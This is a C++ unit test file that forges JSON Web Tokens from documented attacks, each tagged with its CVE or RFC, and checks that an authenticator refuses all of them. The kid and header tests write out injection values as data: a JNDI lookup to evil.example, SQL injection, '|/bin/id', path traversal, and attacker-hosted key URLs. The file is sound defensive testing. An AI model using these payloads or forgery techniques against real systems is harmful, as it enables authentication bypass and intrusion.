// Public attacks on JWS and JWT, each with its source: none of them is let in.
#include <gtest/gtest.h>
#include <openssl/evp.h>

#include <functional>
#include <string>
#include <string_view>
#include <vector>

#include "auth/jwt_authenticator.h"
#include "tests/unit/auth/door.h"
#include "tests/unit/auth/forge.h"
#include "tests/unit/auth/session_fixture.h"

namespace kg::auth::attack_vectors_test {

using forge::Claims;
using forge::kNow;
using forge::TestKey;

struct Attack {
  std::string name;
  const char* source;
  std::string token;
};
using Attacks = std::vector<Attack>;

std::string encode(std::string_view bytes) { return ascii::base64url_encode(bytes); }

std::string hmac(std::string_view secret, std::string_view text) {
  std::string mac(32, '\0');
  size_t size = mac.size();
  EXPECT_NE(
      EVP_Q_mac(nullptr, "HMAC", nullptr, "SHA256", nullptr, secret.empty() ? "" : secret.data(),
                secret.size(), reinterpret_cast<const unsigned char*>(text.data()), text.size(),
                reinterpret_cast<unsigned char*>(mac.data()), mac.size(), &size),
      nullptr);
  return mac;
}

// One issuer with a key of each kind, whose public halves everybody knows, and an attacker with a
// key of its own.
class AttackVectors : public testing::Test {
 protected:
  static const TestKey& ec() {
    static const TestKey key = TestKey::ec();
    return key;
  }
  static const TestKey& rsa() {
    static const TestKey key = TestKey::rsa();
    return key;
  }
  static const TestKey& ed() {
    static const TestKey key = TestKey::ed25519();
    return key;
  }
  static const TestKey& evil() {
    static const TestKey key = TestKey::ec();
    return key;
  }
  static std::string pems() { return ec().public_pem() + rsa().public_pem() + ed().public_pem(); }

  Verdict judge(std::string_view token) const {
    Evidence evidence;
    evidence.token = token;
    return authenticator_.judge(evidence, kNow);
  }
  void expect_refused(const Attacks& attacks) const {
    for (const Attack& attack : attacks) {
      const Verdict verdict = judge(attack.token);
      EXPECT_NE(verdict.kind, Verdict::Kind::kPrincipal) << attack.name << ", " << attack.source;
      EXPECT_NE(verdict.kind, Verdict::Kind::kAsk) << attack.name;
    }
  }

  const std::string claims_ = Claims().text();
  const std::string good_ = ec().token(R"({"alg":"ES256","typ":"JWT"})", claims_);
  const JwtAuthenticator authenticator_{
      {"studio", "https://studio.example.com", "kernelgate", {}, {}},
      fixed(KeySet::from_text(pems()).keys)};
};

TEST_F(AttackVectors, TheTokenThatTheyAreMadeFromIsGood) {
  EXPECT_EQ(judge(good_).kind, Verdict::Kind::kPrincipal);
  EXPECT_EQ(judge(rsa().token(R"({"alg":"RS256"})", claims_)).kind, Verdict::Kind::kPrincipal);
  EXPECT_EQ(judge(rsa().pss_token(R"({"alg":"PS256"})", claims_)).kind, Verdict::Kind::kPrincipal);
  EXPECT_EQ(judge(ed().token(R"({"alg":"EdDSA"})", claims_)).kind, Verdict::Kind::kPrincipal);
}

TEST_F(AttackVectors, NoAlgorithm) {
  constexpr const char* kSource = "CVE-2015-2951, RFC 8725 section 2.1";
  Attacks attacks;
  for (const char* alg : {R"("none")", R"("None")", R"("NONE")", R"("nOnE")", R"("none ")",
                          R"(" none")", R"("\u006eone")", R"("none\u0000")", R"("")", "null", "0",
                          R"(["none"])", R"({"none":1})", "false"}) {
    const std::string text =
        TestKey::signing_input(R"({"alg":)" + std::string(alg) + R"(,"typ":"JWT"})", claims_);
    attacks.push_back({std::string("alg ") + alg, kSource, text + '.'});
    attacks.push_back({std::string("alg, two parts ") + alg, kSource, text});
    attacks.push_back(
        {std::string("alg, good signature ") + alg, kSource, text + '.' + encode(ec().sign(text))});
  }
  attacks.push_back({"no alg", kSource, ec().token(R"({"typ":"JWT"})", claims_)});
  attacks.push_back({"empty header", kSource, ec().token("{}", claims_)});
  expect_refused(attacks);
}

TEST_F(AttackVectors, KeyConfusion) {
  constexpr const char* kSource = "CVE-2015-9235, CVE-2016-10555";
  Attacks attacks;
  for (const char* alg : {"HS256", "HS384", "HS512", "hs256", "RS256", "ES256", "EdDSA"}) {
    const std::string text =
        TestKey::signing_input(R"({"alg":")" + std::string(alg) + R"("})", claims_);
    const std::string rsa_pem = rsa().public_pem();
    for (const std::string& secret :
         {rsa_pem, rsa_pem.substr(0, rsa_pem.size() - 1), ec().public_pem(), std::string()}) {
      attacks.push_back({std::string(alg) + " with a public key as HMAC secret", kSource,
                         text + '.' + encode(hmac(secret, text))});
    }
  }
  const auto forged = [&](const char* alg, const TestKey& key) {
    return key.token(R"({"alg":")" + std::string(alg) + R"("})", claims_);
  };
  attacks.push_back({"RSA PKCS#1 as PS256", "RFC 8725 section 3.1", forged("PS256", rsa())});
  attacks.push_back({"RSA as ES256", kSource, forged("ES256", rsa())});
  attacks.push_back({"Ed25519 as ES256", kSource, forged("ES256", ed())});
  attacks.push_back({"P-256 as ES384", kSource, forged("ES384", ec())});
  attacks.push_back({"P-256 as EdDSA", kSource, forged("EdDSA", ec())});
  attacks.push_back(
      {"RSA PSS as RS256", "RFC 8725 section 3.1", rsa().pss_token(R"({"alg":"RS256"})", claims_)});
  attacks.push_back({"another key", "", forged("ES256", evil())});
  expect_refused(attacks);
}

TEST_F(AttackVectors, KidTricks) {
  constexpr const char* kSource = "RFC 8725 section 3.10, PortSwigger's JWT labs";
  Attacks attacks;
  for (const char* kid :
       {R"("../../../../../../dev/null")", R"("/dev/null")", R"("x' UNION SELECT 'key")", R"("")",
        R"("' OR 1=1 --")", R"("key;id")", R"("|/bin/id")", R"("${jndi:ldap://evil.example/a}")",
        R"("https://evil.example/key")", R"("ec\u0000.evil")", "7", "null", R"(["ec"])"}) {
    const std::string header = R"("kid":)" + std::string(kid) + '}';
    for (const std::string& secret : {std::string(), std::string("key"), std::string(1, '\0')}) {
      const std::string text = TestKey::signing_input(R"({"alg":"HS256",)" + header, claims_);
      attacks.push_back(
          {std::string("HMAC with kid ") + kid, kSource, text + '.' + encode(hmac(secret, text))});
    }
    attacks.push_back({std::string("own key with kid ") + kid, kSource,
                       evil().token(R"({"alg":"ES256",)" + header, claims_)});
  }
  attacks.push_back({"kid twice", "RFC 7515 section 4",
                     ec().token(R"({"alg":"ES256","kid":"a","kid":"b"})", claims_)});
  for (const size_t length : {size_t{257}, size_t{8000}, size_t{12000}}) {
    attacks.push_back(
        {"very long kid", kSource,
         ec().token(R"({"alg":"ES256","kid":")" + std::string(length, 'k') + R"("})", claims_)});
  }
  expect_refused(attacks);
}

TEST_F(AttackVectors, KeysThatTheTokenBrings) {
  constexpr const char* kSource = "CVE-2018-0114, RFC 8725 section 3.10";
  Attacks attacks;
  for (const char* member :
       {R"("jwk":{"kty":"EC","crv":"P-256","x":"AAAA","y":"AAAA"})",
        R"("jwk":{"kty":"oct","k":""})", R"("jwk":null)",
        R"("jku":"https://evil.example/jwks.json")",
        R"("jku":"https://studio.example.com/redirect?to=evil.example")",
        R"("jku":"file:///dev/null")", R"("x5u":"https://evil.example/cert.pem")",
        R"("x5c":["MIIB"])", R"("x5c":[])"}) {
    const std::string header = R"({"alg":"ES256",)" + std::string(member) + '}';
    attacks.push_back({header, kSource, evil().token(header, claims_)});
    // Even where the signature is good: nobody needs it.
    attacks.push_back({header + " and the issuer's key", kSource, ec().token(header, claims_)});
  }
  expect_refused(attacks);
}

TEST_F(AttackVectors, EmptyAndDegenerateSignatures) {
  constexpr const char* kPsychic = "CVE-2022-21449 (psychic signatures)";
  // The order of P-256 (SEC 2 section 2.4.2): r and s are taken modulo it where nobody looks.
  const std::string order = "\xff\xff\xff\xff" + std::string(4, '\0') + std::string(8, '\xff') +
                            "\xbc\xe6\xfa\xad\xa7\x17\x9e\x84\xf3\xb9\xca\xc2\xfc\x63\x25\x51";
  ASSERT_EQ(order.size(), 32U);
  const std::string zero(32, '\0');
  const std::string one = std::string(31, '\0') + '\1';
  const std::string text = TestKey::signing_input(R"({"alg":"ES256"})", claims_);
  const std::string signature = ec().sign(text);
  const std::string r = signature.substr(0, 32);
  const std::string s = signature.substr(32);
  const struct {
    const char* name;
    const char* source;
    std::string signature;
  } cases[] = {
      {"r = s = 0", kPsychic, zero + zero},
      {"r = 0", kPsychic, zero + s},
      {"s = 0", kPsychic, r + zero},
      {"r = s = order", kPsychic, order + order},
      {"r = order", kPsychic, order + s},
      {"s = order", kPsychic, r + order},
      {"r = s = 1", "", one + one},
      {"all ones", "", std::string(64, '\xff')},
      {"zero DER", kPsychic, std::string("\x30\x06\x02\x01\x00\x02\x01\x00", 8)},
      {"DER", "RFC 7518 section 3.4", ec().sign_plain(text)},
      {"one byte less", "", signature.substr(1)},
      {"one byte more", "", '\0' + signature},
      {"one zero byte in front of each half", "", '\0' + r + '\0' + s},
      {"halves exchanged", "", s + r},
      {"twice", "", signature + signature},
      {"one byte", "", "\1"},
      {"none", "CVE-2020-28042", ""},
  };
  Attacks attacks;
  for (const auto& one_case : cases) {
    attacks.push_back({one_case.name, one_case.source, text + '.' + encode(one_case.signature)});
  }
  for (const char* alg : {"EdDSA", "RS256", "PS256"}) {
    const std::string other =
        TestKey::signing_input(R"({"alg":")" + std::string(alg) + R"("})", claims_);
    for (const size_t size : {size_t{0}, size_t{1}, size_t{64}, size_t{256}}) {
      attacks.push_back({std::string("zeros as ") + alg, kPsychic,
                         other + '.' + encode(std::string(size, '\0'))});
    }
  }
  expect_refused(attacks);
}

TEST_F(AttackVectors, OtherSpellingsOfOneToken) {
  constexpr const char* kSource = "RFC 7515 section 2: base64url without padding or white space";
  const size_t first = good_.find('.');
  const size_t second = good_.rfind('.');
  const std::string head = good_.substr(0, first);
  const std::string body = good_.substr(first + 1, second - first - 1);
  const std::string tail = good_.substr(second + 1);
  std::string spare = good_;  // 64 bytes leave four spare bits in the last letter
  spare.back() = static_cast<char>(spare.back() + 1);
  expect_refused({
      {"padded signature", kSource, good_ + "=="},
      {"one pad", kSource, good_ + '='},
      {"padded header", kSource, head + "=." + body + '.' + tail},
      {"spare bits", "RFC 4648 section 3.5", spare},
      {"truncated", kSource, good_.substr(0, good_.size() - 1)},
      {"space in front", kSource, ' ' + good_},
      {"line end behind", kSource, good_ + "\r\n"},
      {"space inside", kSource, head + ". " + body + '.' + tail},
      {"tab inside the signature", kSource,
       head + '.' + body + '.' + tail.substr(0, 8) + '\t' + tail.substr(8)},
      {"NUL behind", kSource, good_ + '\0'},
      {"a fourth part", kSource, good_ + '.' + tail},
      {"an empty fourth part", kSource, good_ + '.'},
      {"percent encoding", kSource, head + "%2E" + body + '.' + tail},
      {"Bearer twice", kSource, "Bearer " + good_},
      {"quotes", kSource, '"' + good_ + '"'},
      {"the JSON serialization", "RFC 7515 section 7.2.2, CVE-2022-39227",
       R"({"protected":")" + head + R"(","payload":")" + body + R"(","signature":")" + tail +
           R"("})"},
      {"JSON around a compact token", "CVE-2022-39227",
       R"({")" + head + '.' + body + R"(.":"","x":")" + tail + R"("})"},
  });
}

TEST_F(AttackVectors, NamesThatOccurTwice) {
  constexpr const char* kSource = "RFC 8725 section 2.4, RFC 7515 section 4";
  Attacks attacks{
      {"alg twice", kSource, ec().token(R"({"alg":"none","alg":"ES256"})", claims_)},
      {"alg twice, escaped", kSource, ec().token(R"({"alg":"ES256","\u0061lg":"none"})", claims_)},
      {"typ twice", kSource, ec().token(R"({"alg":"ES256","typ":"JWT","typ":"x"})", claims_)}};
  for (const char* member :
       {R"("sub":"root")", R"("iss":"https://studio.example.com")", R"("aud":"kernelgate")",
        R"("exp":1800000800)", R"("endpoint":"abc123")", R"("su\u0062":"root")"}) {
    Claims twice;
    twice.more = ',' + std::string(member);
    attacks.push_back(
        {std::string(member) + " twice", kSource, ec().token(R"({"alg":"ES256"})", twice.text())});
  }
  expect_refused(attacks);
}

TEST_F(AttackVectors, HeadersThatChangeTheMeaning) {
  Attacks attacks;
  const auto add = [&](const char* header, const char* source) {
    attacks.push_back({header, source, ec().token(header, claims_)});
  };
  add(R"({"alg":"ES256","crit":["exp"],"exp":1})", "RFC 7515 section 4.1.11, CVE-2025-59420");
  add(R"({"alg":"ES256","crit":["x"],"x":1})", "RFC 7515 section 4.1.11");
  add(R"({"alg":"ES256","crit":[]})", "RFC 7515 section 4.1.11");
  add(R"({"alg":"ES256","crit":null})", "RFC 7515 section 4.1.11");
  add(R"({"alg":"ES256","b64":false,"crit":["b64"]})", "RFC 7797 section 6");
  add(R"({"alg":"ES256","b64":false})", "RFC 7797 section 6");
  add(R"({"alg":"ES256","zip":"DEF"})", "RFC 7516 section 4.1.3: decompression bombs");
  add(R"({"alg":"ES256","enc":"A128GCM"})", "RFC 7516 section 4.1.2");
  for (const char* typ : {"JOSE", "JOSE+JSON", "dpop+jwt", "secevent+jwt", "logout+jwt",
                          "token-introspection+jwt", "JWE", ""}) {
    attacks.push_back(
        {std::string("typ ") + typ, "RFC 8725 section 3.11",
         ec().token(R"({"alg":"ES256","typ":")" + std::string(typ) + R"("})", claims_)});
  }
  add(R"({"alg":"ES256","typ":["JWT"]})", "RFC 8725 section 3.11");
  expect_refused(attacks);
  // Raw payload under b64:false, signed as RFC 7797 section 3 says.
  const std::string header = encode(R"({"alg":"ES256","b64":false,"crit":["b64"]})");
  expect_refused({{"raw payload", "RFC 7797",
                   header + '.' + claims_ + '.' + encode(ec().sign(header + '.' + claims_))}});
}

TEST_F(AttackVectors, AbsurdTimes) {
  Attacks attacks;
  for (const char* member : {"exp", "nbf", "iat"}) {
    for (const char* value : {"-1",
                              "-1e308",
                              "1e308",
                              "1e400",
                              "\"1800000800\"",
                              "\"\"",
                              "NaN",
                              "Infinity",
                              "-Infinity",
                              "null",
                              "true",
                              "[1800000800]",
                              "{}",
                              "18446744073709551616",
                              "9223372036854775808",
                              "253402300800",
                              "1800000800.5",
                              "0x6b49d200",
                              "01800000800",
                              "+1800000800"}) {
      Claims claims;
      claims.iat.clear();
      if (std::string_view(member) == "exp") claims.exp.clear();
      claims.more = (claims.exp.empty() ? R"(")" : R"(,")") + std::string(member) + R"(":)" + value;
      attacks.push_back({std::string(member) + ' ' + value,
                         "RFC 7519 section 2, RFC 8259 section 6",
                         ec().token(R"({"alg":"ES256"})", claims.text())});
    }
  }
  Claims eternal;
  eternal.endpoint.pop_back();  // the comma
  eternal.iat.clear();
  eternal.exp.clear();
  attacks.push_back(
      {"no exp", "RFC 8725 section 3.8", ec().token(R"({"alg":"ES256"})", eternal.text())});
  expect_refused(attacks);
}

TEST_F(AttackVectors, OtherThingsThanClaims) {
  const std::string header = R"({"alg":"ES256"})";
  const std::string good = good_;
  Attacks attacks{
      {"nested JWT", "RFC 7519 section 5.2", ec().token(R"({"alg":"ES256","cty":"JWT"})", good)},
      {"nested JWT without cty", "RFC 7519 section 5.2", ec().token(header, good)},
      {"five parts", "RFC 7516 section 7.1",
       encode(R"({"alg":"RSA-OAEP","enc":"A128GCM"})") + ".AAAA.AAAA.AAAA.AAAA"},
      {"five parts, dir", "RFC 7516 section 7.1",
       encode(R"({"alg":"dir","enc":"A128GCM"})") + "..AAAA.AAAA.AAAA"},
      {"three parts under a JWE's alg", "RFC 8725 section 2.5",
       ec().token(R"({"alg":"RSA-OAEP","enc":"A128GCM"})", claims_)},
      {"PBES2 with a large p2c", "CVE-2022-36083",
       ec().token(R"({"alg":"PBES2-HS256+A128KW","p2c":2147483647,"p2s":"AA"})", claims_)}};
  for (const std::string& payload :
       {std::string("[]"), std::string("\"text\""), std::string("7"), std::string("null"),
        std::string("{}"), "\xef\xbb\xbf" + claims_, claims_ + "x", claims_ + claims_,
        claims_ + std::string(1, '\0'), "/*c*/" + claims_, std::string("{'sub':'alice'}"),
        std::string("<jwt/>"), std::string("sub=alice")}) {
    attacks.push_back(
        {"payload " + payload.substr(0, 16), "RFC 7519 section 7.2", ec().token(header, payload)});
  }
  for (const char* iss : {R"("https://studio.example.com/")", R"("https://STUDIO.example.com")",
                          R"(["https://studio.example.com"])",
                          R"("https://studio.example.com\u0000")", R"("")", "null"}) {
    Claims claims;
    claims.iss = R"("iss":)" + std::string(iss) + ',';
    attacks.push_back(
        {std::string("iss ") + iss, "RFC 8725 section 3.8", ec().token(header, claims.text())});
  }
  for (const char* aud : {R"("kernelgate2")", R"("kernel")", R"([["kernelgate"]])", R"([])", "null",
                          R"({"kernelgate":1})", R"(["kernelgate",7])", R"("KERNELGATE")"}) {
    Claims claims;
    claims.aud = R"("aud":)" + std::string(aud) + ',';
    attacks.push_back(
        {std::string("aud ") + aud, "RFC 8725 section 3.9", ec().token(header, claims.text())});
  }
  expect_refused(attacks);
}

}  // namespace kg::auth::attack_vectors_test
